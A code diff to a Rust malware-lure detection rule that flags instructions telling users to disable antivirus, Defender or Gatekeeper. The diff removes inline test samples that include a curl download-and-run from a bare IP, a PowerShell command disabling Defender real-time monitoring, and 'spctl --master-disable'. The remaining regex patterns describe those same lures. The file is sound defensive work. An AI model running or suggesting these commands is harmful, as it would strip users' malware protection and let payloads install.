@@ -1,10 +1,11 @@
 //! Protection is to be switched off so that something can be started.
 
 use crate::code::destination::Kind;
-use crate::rules::rule::{Category, Check, Hit, Rule, Severity, text};
+use crate::rules::rule::{Category, Check, Hit, Rule, Severity};
 use crate::text::link::{Link, links};
 use crate::text::phrase::{Phrases, is_forbidden, is_told_of, section};
 use crate::text::unit::{TOLD, Unit};
+use crate::words::words;
 
 pub(super) const RULE: Rule = Rule {
     id: "LURE_UNPROTECTED",
@@ -14,7 +15,7 @@ pub(super) const RULE: Rule = Rule {
     why: "What runs only while nobody looks for malware is malware until shown otherwise.",
     fix: "leave the protection on",
     places: TOLD,
-    anchors: &[
+    anchors: words![
         r"\bantivirus",
         r"\banti-virus",
         r"\bdefender",
@@ -32,35 +33,9 @@ pub(super) const RULE: Rule = Rule {
         r"\bsecurity software",
     ],
     check: Check::Said(&[&PHRASES, &EXCUSES], hits),
-    hits: &[
-        text("Turn off Windows Defender real-time protection before you run the installer."),
-        text(
-            "Your antivirus may flag the file; this is a false positive, ignore it. Download: https://dl.somebody.net/a.exe",
-        ),
-        text("```sh\ncurl -L http://8.8.4.4/app -o app && xattr -c app && ./app\n```"),
-        text("```powershell\nSet-MpPreference -DisableRealtimeMonitoring $true\n```"),
-        text("`sudo spctl --master-disable`"),
-        text("Switch Defender off while it installs; it can be switched on later."),
-        text(
-            "1. Download `Tuner.dmg` from https://tuner.somebody.test/load\n2. Then `xattr -dr com.apple.quarantine /Applications/Tuner.app`\n3. Enter your password when the window asks.",
-        ),
-    ],
-    misses: &[
-        text("Never turn off Windows Defender."),
-        text("A false positive of the linter can be ignored."),
-        text("If macOS refuses to open the app: `xattr -d com.apple.quarantine /Applications/Tool.app`"),
-        text(
-            "Download `Tool.dmg` from https://github.com/org/tool/releases. If macOS refuses to open it: `xattr -d com.apple.quarantine /Applications/Tool.app`",
-        ),
-        text(
-            "Download `Tool.dmg` from https://tool.somebody.test. If macOS refuses to open it: `xattr -d com.apple.quarantine /Applications/Tool.app`",
-        ),
-        text("Check that Gatekeeper is enabled and Defender is running."),
-        text("OPA Gatekeeper can be disabled per namespace."),
-    ],
 };
 
-static PHRASES: Phrases = Phrases::new(&[
+static PHRASES: Phrases = Phrases::new(words![
     r"\b(?:disabl(?:e|ing)|turn(?:ing)? off|paus(?:e|ing)|deactivat(?:e|ing)|switch(?:ing)? off|stop|uninstall|kill) (?:<any> ){0,3}(?:antivirus|anti-virus|windows defender|microsoft defender|defender|smartscreen|macos gatekeeper|real-time (?:protection|scanning)|security software|edr)\b",
     r"\b(?:turn|switch) (?:<any> ){0,4}(?:antivirus|anti-virus|defender|smartscreen|real-time (?:protection|scanning)|virus protection|security software)(?: <any>){0,2} off\b",
     r"\b(?:add|create|set) (?:<any> ){0,3}(?:exclusion|exception)s? (?:<any> ){0,4}(?:antivirus|anti-virus|defender)\b",
@@ -70,7 +45,7 @@ static PHRASES: Phrases = Phrases::new(&[
 ]);
 
 /// Claims that a warning means nothing, and what takes the mark of a download away.
-static EXCUSES: Phrases = Phrases::new(&[
+static EXCUSES: Phrases = Phrases::new(words![
     r"\b(?:get past|get around|bypass|ignore|dismiss|skip|click through|allow (?:it|<any>)? ?(?:through|in|past)) (?:<any> ){0,3}(?:gatekeeper|smartscreen|security warnings?|malware warnings?)\b",
     r"\b(?:antivirus|anti-virus|defender|smartscreen|gatekeeper|security software|windows|macos)\b... (?:may|might|could|will|can)... (?:flag|warn|block|detect|quarantine|delete|complain)\w*...\b(?:false positive|ignore|safe|run anyway|allow|harmless)\b",
     r"\bfalse positive\b... (?:antivirus|anti-virus|defender|smartscreen)\b",
@@ -99,10 +74,10 @@ fn hits(unit: &Unit<'_>) -> Vec<Hit> {
 }
 
 /// The name of a program that is fetched, where its address does not say so.
-static PACKED: Phrases = Phrases::new(&[r"\b[\w-]+\.(?:dmg|pkg|exe|msi|app|iso|zip|scr)\b"]);
+static PACKED: Phrases = Phrases::new(words![r"\b[\w-]+\.(?:dmg|pkg|exe|msi|app|iso|zip|scr)\b"]);
 
 /// It wants a password, or all rights.
-static ASKS: Phrases = Phrases::new(&[
+static ASKS: Phrases = Phrases::new(words![
     r"\basks? (?:<any> ){0,2}for (?:<any> ){0,2}password\b|\b(?:enter|type|give) (?:<any> ){0,3}password\b|\bas (?:an? )?administrator\b",
 ]);
 
